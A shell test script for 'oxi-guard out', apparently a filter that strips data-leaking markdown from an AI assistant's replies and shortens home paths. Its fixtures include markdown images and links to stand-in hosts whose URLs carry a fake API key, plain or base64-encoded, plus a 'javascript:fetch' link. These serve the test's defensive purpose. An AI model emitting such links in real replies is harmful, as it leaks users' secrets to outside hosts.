#!/bin/sh
# oxi-guard out: markdown links and images that would carry data away
# are removed (a secret or the canary in the URL, a script URL, outside
# content in the reply); home paths are shortened; code is left alone
cd "$(dirname "$0")" && . ./lib.sh || exit 1
plan 10

export OXI_DEADLETTER="$TMP/dead.ndjson" OXI_AUDIT_LOG="$TMP/audit.log"
S=sk-proj-Vb6Kp3AcZ9fQ2xLm4Tz8Rw1Nq7Hs5Dj0
echo "$S" >"$TMP/secrets"
out() {	# out ID TEXT [TAINT]
	python3 -c 'import json, sys
r = {"v": 1, "type": "msg.out", "id": sys.argv[1], "channel": "cli",
    "chat": "c1", "text": sys.argv[2]}
if len(sys.argv) > 3:
    r["taint"] = sys.argv[3].split(",")
print(json.dumps(r))' "$@"
}
guard() { oxi-guard out -s "$TMP/secrets" 2>>"$TMP/err" | jget '["text"]' /dev/stdin; }

check 'an image whose URL carries a secret is removed' \
	'[ "$(out a "Done ![ok](https://x.example/p.png?k=$S) bye" | guard)" = "Done [image removed] bye" ]'
check 'a link whose URL carries it in base64 keeps only its text' \
	'[ "$(out b "See [the page](https://x.example/?d=$(printf %s "$S" | base64 -w0)) now" | guard)" = "See the page now" ]'
check 'a script URL is removed' \
	'[ "$(out c "[click](javascript:fetch(1)) then" | guard)" = "click then" ]'
check 'a plain link of the owner'"'"'s reply stays' \
	'[ "$(out d "[docs](https://docs.example/x?page=2)" owner:cli | guard)" = "[docs](https://docs.example/x?page=2)" ]'
check 'with outside content: a link with a query keeps its text' \
	'[ "$(out e "[source](https://docs.example/x?q=bob%40mail.example)" owner:cli,web:https://a.example | guard)" = "source" ]'
check '...an image goes whatever its URL' \
	'[ "$(out f "![chart](https://c.example/c.png)" owner:cli,shell | guard)" = "[image removed]" ]'
check '...and so does an HTML image' \
	'[ "$(out g "x <img src=\"https://c.example/p?u=1\"> y" user:cli | guard)" = "x [image removed] y" ]'
check 'links inside code are text' \
	'[ "$(out h "\`[a](javascript:x)\` and \`\`\`
![b](https://c.example/?$S)
\`\`\`" | guard)" = "\`[a](javascript:x)\` and \`\`\`
![b](https://c.example/?[REDACTED])
\`\`\`" ]'
check 'home paths are shortened' \
	'[ "$(out i "saved to $HOME/notes.md and /home/bob/x.txt, /root/y" | guard)" = "saved to ~/notes.md and ~/x.txt, ~/y" ]'
check_grep 'with one info line that counts them' \
	"info: msg.out 'i': shortened 3 home paths" "$TMP/err"
done_testing
